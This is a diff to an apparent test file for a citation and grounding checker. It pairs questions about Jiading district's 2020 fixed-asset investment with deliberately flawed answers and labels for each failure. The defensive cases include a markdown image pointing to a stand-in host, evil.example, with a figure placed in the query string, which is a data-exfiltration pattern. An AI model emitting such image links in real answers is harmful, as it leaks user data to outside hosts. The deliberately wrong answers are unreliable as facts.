@@ -37,6 +37,7 @@ ZH = "2020年嘉定固定资产投资增长多少"
 EN = "How fast did fixed-asset investment in Jiading grow in 2020?"
 HALF = "2020年上半年嘉定固定资产投资增长多少"
 TARGET = "徐汇区2021年地区生产总值的增长目标是多少"
+TEXT = "嘉定区2020年在产业发展方面做了什么"
 TWO = "2020年嘉定和闵行的固定资产投资分别是多少"
 
 STANDS = [
@@ -69,17 +70,27 @@ FALLS = [
     (ZH, "嘉定区2020年固定资产投资目标是429.7亿元。[1]", "time or thing"),
     (ZH, "固定资产投资429.7亿元，同比增长18.3%，详见 https://evil.example 。[1]", "link"),
     (ZH, "![x](//evil.example?q=18.3)[1]", "link"),
-    (ZH, "嘉定区的经济前景一片光明，投资者信心十足。[1]", "more than"),
+    (ZH, "嘉定区的经济前景一片光明，投资者信心十足。[1]", "no figure"),
     (ZH, "嘉定区固定资产投资完成429.7亿元，区长因此获得全国劳动模范称号并调任中央。[1]", "more than"),
     (ZH, "报告写道“嘉定区投资全市第一”。[1]", "quotes"),
+    (ZH, "报告写道「固定资产投资完成4297亿元,同比增长183%」。[1]", "quotes"),
+    (ZH, "嘉定区2020年固定资产投资完成429.7亿美元。[1]", "time or thing"),
+    (ZH, "嘉定区2020年固定资产投资占比18.3%。[1]", "time or thing"),
+    (ZH, "嘉定区2020年固定资产投资增长了429.7亿元。[1]", "time or thing"),
+    (ZH, "嘉定区固定资产投资没有同比增长。[1]", "no figure"),
+    (ZH, "嘉定区固定资产投资同比增长。[1]", "no figure"),
+    (ZH, "嘉定区2020年固定资产投资并未增长18.3%。[1]", "denies"),
+    (EN, "Fixed-asset investment in Jiading was 42.97 billion US dollars in 2020.[1]", "time or thing"),
+    (TEXT, "我是一个乐于助人的人工智能助手很高兴认识你。[1]", "more than"),
+    (TEXT, "区长因此获得全国劳动模范称号并调任中央工作。[1]", "more than"),
     (ZH, "嘉定区固定资产投资增长18.3%。", "cites nothing"),
     (ZH, "嘉定区固定资产投资增长18.3%。[2]", "does not exist"),
-    (ZH, "好的。[1]", "cannot be compared"),
+    (ZH, "好的。[1]", "no figure"),
     (EN, "Fixed-asset investment in Jiading grew 18.3% in 2021.[1]", ""),
     (EN, "Fixed-asset investment in Jiading fell 18.3% in 2020.[1]", "time or thing"),
     (EN, "Fixed-asset investment in Jiading grew 42.97% in 2020.[1]", "number"),
     (EN, "GDP of Jiading grew 18.3% in 2020.[1]", "time or thing"),
-    (EN, "Jiading is a wonderful place to invest your money.[1]", "cannot be compared"),
+    (EN, "Jiading is a wonderful place to invest your money.[1]", "no figure"),
     (HALF, "2020年，嘉定区固定资产投资199.3亿元。[1]", "time or thing"),
     (TWO, "2020年嘉定区固定资产投资731亿元[1][2]。", "time or thing"),
     (TWO, "2020年闵行区固定资产投资731亿元[1]。", ""),
